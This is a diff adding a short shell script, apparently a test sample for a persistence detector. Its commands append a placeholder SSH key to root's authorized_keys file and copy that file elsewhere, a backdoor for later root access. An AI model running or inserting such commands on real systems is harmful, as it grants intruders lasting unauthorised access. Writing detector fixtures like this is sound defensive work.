@@ -1,0 +1,7 @@
+#!/bin/sh
+# A key for a later visit.
+# expects: persistence_authorized_keys 3
+
+sh -c 'echo "ssh-ed25519 invented" >> /root/.ssh/authorized_keys'
+echo 'ssh-ed25519 invented' | tee -a /root/.ssh/authorized_keys
+cp /root/.ssh/authorized_keys /home/app/authorized_keys
